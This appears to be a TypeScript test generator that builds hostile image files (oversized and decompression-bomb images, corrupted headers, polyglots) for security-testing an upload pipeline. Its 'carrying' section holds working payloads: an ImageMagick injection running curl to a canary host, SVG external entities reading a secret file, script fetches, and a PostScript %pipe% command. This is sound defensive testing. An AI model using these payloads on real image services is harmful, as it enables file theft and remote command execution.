import { deflateSync, gzipSync } from 'node:zlib';
import type { Random } from '../../hostile/random.ts';
import { fileOf, type HostileFile } from '../hostile-file.ts';
import { makeBmp, makeGif, makePng, makeTiff, pngChunk } from '../image-file.ts';
import { cvObjects, makePdf } from '../pdf-file.ts';
import { awkwardFixture } from './fixtures.ts';

const sides = [1, 9_000, 16_384, 20_000, 65_535, 1_000_000, 2_147_483_647];

/** A true JPEG: the scan of a document kept for the tests. */
function jpeg(): Buffer {
  const { bytes } = awkwardFixture('scanned.pdf');
  return bytes.subarray(
    bytes.indexOf(Buffer.from([0xff, 0xd8, 0xff])),
    bytes.lastIndexOf(Buffer.from([0xff, 0xd9])) + 2,
  );
}

function* huge(): Generator<[string, Buffer, string]> {
  for (const width of sides)
    for (const height of [width, 1]) {
      yield [`a PNG of ${width} by ${height}`, makePng(width, height), 'png'];
      yield [`a GIF of ${width} by ${height}`, makeGif(width, height), 'gif'];
      yield [`a BMP of ${width} by ${height}`, makeBmp(width | 0, height | 0), 'png'];
      yield [
        `a TIFF of ${width} by ${height}`,
        makeTiff([
          [256, 4, 1, width],
          [257, 4, 1, height],
          [258, 3, 1, 8],
          [259, 3, 1, 1],
          [262, 3, 1, 1],
          [273, 4, 1, 100],
          [278, 4, 1, height],
          [279, 4, 1, 9],
        ]),
        'jpg',
      ];
    }
  const rows = Buffer.alloc(8_000 * (1 + 8_000 * 3));
  yield ['a true PNG of 64 million pixels', makePng(8_000, 8_000, { pixels: rows }), 'png'];
  yield [
    'a true PNG of 16 bits a colour',
    makePng(6_000, 6_000, { depth: 16, colour: 6, pixels: Buffer.alloc(6_000 * (1 + 6_000 * 8)) }),
    'png',
  ];
  yield ['an interlaced PNG of 64 million pixels', makePng(8_000, 8_000, { interlace: 1, pixels: rows }), 'png'];
  yield ['three thousand pictures in one', makeGif(2_000, 2_000, 3_000), 'gif'];
  yield ['three hundred thousand pictures in one', makeGif(16, 16, 300_000), 'gif'];
}

function* wrong(random: Random): Generator<[string, Buffer, string]> {
  const originals = { jpg: jpeg(), png: makePng(64, 64), gif: makeGif(64, 64) };
  for (const [extension, bytes] of Object.entries(originals)) {
    for (let cut = 1; cut <= 8; cut += 1)
      yield [`${extension} cut at ${cut}/9`, bytes.subarray(0, Math.floor((bytes.length * cut) / 9)), extension];
    for (let turn = 0; turn < 12; turn += 1) {
      const copy = Buffer.from(bytes);
      for (let time = 0; time <= turn; time += 1) copy[random.below(copy.length)] = random.below(256);
      yield [`${extension} spoilt ${turn}`, copy, extension];
    }
    yield [`${extension} under another name`, bytes, extension === 'png' ? 'jpg' : 'png'];
    yield [
      `${extension} with a script behind`,
      Buffer.concat([bytes, Buffer.from('<script>alert(1)</script>')]),
      extension,
    ];
  }
  const heads = [
    'RIFF\xff\xff\xff\x7fWEBPVP8X',
    'RIFF\0\0\0\0WEBPVP8 ',
    '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
    '\0\0\0\x1cftypavif',
    '\xff\x0a\xfa',
    '\0\0\0\x0cJXL \r\n\x87\n',
    'MM\0*\0\0\0\x08',
    'II+\0\x08\0\0\0',
    '\0\0\x01\0\x01\0',
    'icns\0\0\0\x10',
    '#?RADIANCE\n',
    'P6\n99999 99999\n255\n',
    'P5 99999999 99999999 255\n',
    'SIMPLE  =',
    '8BPS\0\x01',
    'gimp xcf ',
    '\x76\x2f\x31\x01',
    'qoif\0\0\xff\xff\0\0\xff\xff',
  ];
  for (const head of heads)
    yield [
      `noise behind ${JSON.stringify(head.slice(0, 12))}`,
      Buffer.concat([Buffer.from(head, 'latin1'), random.bytes(800)]),
      'jpg',
    ];
  yield [
    'a TIFF whose next is itself',
    makeTiff(
      [
        [256, 4, 1, 8],
        [257, 4, 1, 8],
        [330, 4, 1, 8],
        [34665, 4, 1, 8],
      ],
      8,
    ),
    'jpg',
  ];
  yield [
    'a TIFF of four billion numbers',
    makeTiff([
      [256, 4, 1, 8],
      [257, 4, 1, 8],
      [273, 4, 0xffffffff, 8],
      [279, 4, 0xffffffff, 8],
    ]),
    'jpg',
  ];
}

function* carrying(canary: string, secretFile: string): Generator<[string, Buffer, string]> {
  const zeros = deflateSync(Buffer.alloc(60_000_000));
  const text = (type: string, head: string) =>
    makePng(64, 64, { extra: [pngChunk(type, Buffer.concat([Buffer.from(head, 'latin1'), zeros]))] });
  yield ['a note that unfolds', text('zTXt', 'a\0\0'), 'png'];
  yield ['an international note that unfolds', text('iTXt', 'a\0\x01\0\0\0'), 'png'];
  yield ['colours that unfold', text('iCCP', 'a\0\0'), 'png'];
  yield [
    'ten thousand notes',
    makePng(8, 8, { extra: Array.from({ length: 10_000 }, (_, index) => pngChunk('tEXt', `k${index}\0v`)) }),
    'png',
  ];
  yield [
    'frames that are not there',
    makePng(64, 64, { extra: [pngChunk('acTL', Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]))] }),
    'png',
  ];
  const svg = (inside: string, head = '') =>
    Buffer.from(
      `<?xml version="1.0"?>${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">${inside}</svg>`,
    );
  const drawings = {
    'a drawing with a picture elsewhere': svg(`<image xlink:href="${canary}/x.png" width="9" height="9"/>`),
    'a drawing with a file of this machine': svg(`<image href="file://${secretFile}" width="9" height="9"/>`),
    'a drawing with an entity': svg('<text>&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file://${secretFile}">]>`),
    'a drawing with a script': svg(`<script>fetch("${canary}")</script>`),
    'a drawing a billion wide': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>'),
    'a drawing of itself': svg('<g id="a"><use href="#a"/><use href="#a"/></g>'),
    'a packed drawing': gzipSync(svg('<rect width="9" height="9"/>')),
    'a command of ImageMagick': Buffer.from(
      `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url(${canary}"|curl ${canary}")'\npop graphic-context`,
    ),
    'another of ImageMagick': Buffer.from(`<image><read filename="${canary}"/><write filename="/tmp/x"/></image>`),
    PostScript: Buffer.from('%!PS\n(%pipe%id) (r) file\nshowpage'),
    'a PDF': makePdf(cvObjects()),
    'a script': Buffer.from('GIF89a=1;alert(1)'),
    'a list of films': Buffer.from(`#EXTM3U\n#EXTINF:1,\n${canary}/x.ts\n`),
  };
  for (const [name, bytes] of Object.entries(drawings))
    for (const extension of ['png', 'jpg']) yield [`${name} as .${extension}`, bytes, extension];
}

export function* photos(random: Random, canary: string, secretFile: string): Generator<HostileFile> {
  const families = {
    'photo too large': huge(),
    'photo that is wrong': wrong(random),
    'photo that carries something': carrying(canary, secretFile),
  };
  for (const [family, files] of Object.entries(families))
    for (const [name, bytes, extension] of files) yield fileOf(family, name, bytes, extension, 'photo');
}
